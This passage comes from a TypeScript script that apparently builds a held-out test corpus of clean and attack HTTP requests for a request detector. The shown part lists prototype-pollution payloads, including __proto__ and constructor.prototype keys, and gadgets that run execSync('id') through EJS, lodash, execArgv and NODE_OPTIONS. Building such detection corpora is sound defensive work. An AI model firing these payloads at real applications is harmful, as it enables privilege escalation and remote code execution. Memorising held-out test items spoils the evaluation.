    '/l10n/projects/costwise/strings',
    '{"translations":[{"locale":"de-DE","__proto__":{"toString":"x"}}]}',
    '__proto__ inside array element',
  );
  J(
    'POST',
    '/claims',
    '{"contact":{"name":"x","constructor":{"prototype":{"outputFunctionName":"_tmp1;global.process.mainModule.require(\'child_process\').execSync(\'id\');var __tmp2"}}}}',
    'EJS outputFunctionName gadget',
  );
  J(
    'POST',
    '/projects/zuraw/pledges',
    '{"tierId":"t1","__proto__":{"shell":"node","NODE_OPTIONS":"--require /proc/self/environ"}}',
    'child_process env gadget',
  );
  J(
    'POST',
    '/dispatch/webhooks/pos',
    JSON.stringify({ encoding: 'base64', data: b64('{"__proto__":{"admin":true}}') }),
    'base64-wrapped __proto__',
  );
  J(
    'POST',
    '/v1/costs/anomalies/notes',
    JSON.stringify({ payload: '{"constructor":{"prototype":{"isAdmin":true}}}' }),
    'constructor.prototype JSON in string',
  );
  J(
    'POST',
    '/graphql',
    JSON.stringify({
      query: 'mutation($s: JSON!){ updateSettings(settings: $s){ ok } }',
      variables: { s: JSON.parse('{"__proto__":{"debug":true}}') },
    }),
    'GraphQL JSON scalar __proto__',
  );
  J(
    'POST',
    '/ill/requests',
    '{"patron":{"__proto__":{"__proto__":{"canRenewUnlimited":true}}}}',
    'double __proto__ chain',
  );
  J(
    'POST',
    '/inspections/templates',
    '{"template":{"items":[],"prototype":{"x":1},"constructor":{"prototype":{"sourceURL":"\\nreturn process.mainModule.require(\'child_process\').execSync(\'id\')//"}}}}',
    'lodash template sourceURL gadget',
  );
  J(
    'POST',
    '/api/pledges',
    '{"data":{"type":"pledges","attributes":{"amount":5,"__proto__":{"verified":true}}}}',
    'JSON:API attributes __proto__',
    'application/vnd.api+json',
  );
  J('POST', '/v1/budgets', '{"name":"y","__pro\\u0074o__":{"isAdmin":true}}', 'partially escaped __proto__');
  const q = (p: string, trick: string): void => {
    entries.push(['GET', p, headers(), '', trick]);
  };
  q('/v1/costs?__proto__[isAdmin]=true', 'query bracket __proto__');
  q('/dispatch/orders?constructor[prototype][admin]=1', 'query constructor[prototype]');
  q('/claims?__proto__.polluted=1', 'query dotted __proto__');
  q('/galleries/search?q=wedding&%5F%5Fproto%5F%5F%5Bdebug%5D=1', 'percent-encoded __proto__ in query');
  q('/l10n/search?filter[__proto__][role]=admin', 'nested filter __proto__');
  q(
    `/graphql?${qs({ operationName: 'Prefs', variables: '{"prefs":{"__proto__":{"beta":true}}}' })}`,
    'persisted GET variables __proto__',
  );
  entries.push([
    'POST',
    '/galleries/access',
    headers({ 'content-type': 'application/x-www-form-urlencoded' }),
    'gallery=x&pin=1234&__proto__%5BisAdmin%5D=true',
    'form-encoded __proto__[isAdmin]',
  ]);
  entries.push([
    'POST',
    '/ill/public/request-form',
    headers({ 'content-type': 'application/x-www-form-urlencoded' }),
    'name=a&constructor%5Bprototype%5D%5Bstaff%5D=1',
    'form-encoded constructor[prototype]',
  ]);
  entries.push([
    'POST',
    '/l10n/projects/costwise/strings:bulkUpsert',
    headers({ 'content-type': 'application/x-ndjson' }),
    '{"key":"a","locale":"fr-FR","value":"ok"}\n{"key":"b","__proto__":{"isAdmin":true}}\n',
    'NDJSON record __proto__',
  ]);
  J(
    'PUT',
    `/v1/resources/r-${hex(10)}/settings`,
    '{"path":"__proto__.isAdmin","value":true}',
    'set-by-path string __proto__',
  );
  J(
    'PUT',
    `/v1/resources/r-${hex(10)}/settings`,
    '{"path":["constructor","prototype","isAdmin"],"value":true}',
    'set-by-path array constructor.prototype',
  );
  J(
    'POST',
    '/v1/tags/bulk',
    '{"tags":{"__proto__":{"status":"closed"}},"resources":["r-1"]}',
    '__proto__ map key in tags',
  );
  J(
    'POST',
    '/claims/CLM-2026-55120/notes',
    '{"note":{"text":"x"},"meta":{"constructor":{"prototype":{"allowedTags":["script"]}}}}',
    'sanitizer allow-list gadget',
  );
  J(
    'POST',
    '/v1/notebooks/import',
    '{"opts":{"__proto__":{"execArgv":["--eval=require(\'child_process\').execSync(\'id\')"]}}}',
    'execArgv fork gadget',
  );
  for (const [m, p, h, b, trick] of entries) addAttack('prototype-pollution', trick, m, p, h, b);
}

// ---------------------------------------------------------------------------------------------------------
// Assemble
// ---------------------------------------------------------------------------------------------------------

genRestGet(50);
genRestWrite(45);
genMergePatch(25);
genJsonPatch(25);
genJsonApi(25);
genGraphql(35);
genForm(25);
genMultipart(20);
genNdjson(20);
genDelete(20);
genCmsHtml(30);
genCode(30);
genProse(45);
genSearch(35);

genSql();
genNosql();
genTemplate();
genCommand();
genXss();
genLog4shell();
genSsrf();
genPathTraversal();
genProto();

/** Corpus 29: clean traffic and attacks, deterministic. */
export const heldout29: { readonly clean: CorpusRequest[]; readonly attacks: CorpusRequest[] } = {
  clean,
  attacks,
};

function countBy(xs: readonly CorpusRequest[], key: (r: CorpusRequest) => string): Record<string, number> {
  const out: Record<string, number> = {};
  for (const x of xs) out[key(x)] = (out[key(x)] ?? 0) + 1;
  return out;
}

if (process.argv[1] !== undefined && fileURLToPath(import.meta.url) === process.argv[1]) {
  const dir = dirname(fileURLToPath(import.meta.url));
  writeFileSync(join(dir, 'clean-heldout29.json'), `${JSON.stringify(clean, null, 2)}\n`);
  writeFileSync(join(dir, 'attacks-heldout29.json'), `${JSON.stringify(attacks, null, 2)}\n`);
  console.log(
    `clean: ${clean.length}`,
    countBy(clean, (r) => r.kind),
  );
  console.log(
    `attacks: ${attacks.length}`,
    countBy(attacks, (r) => r.family ?? '?'),
  );
}
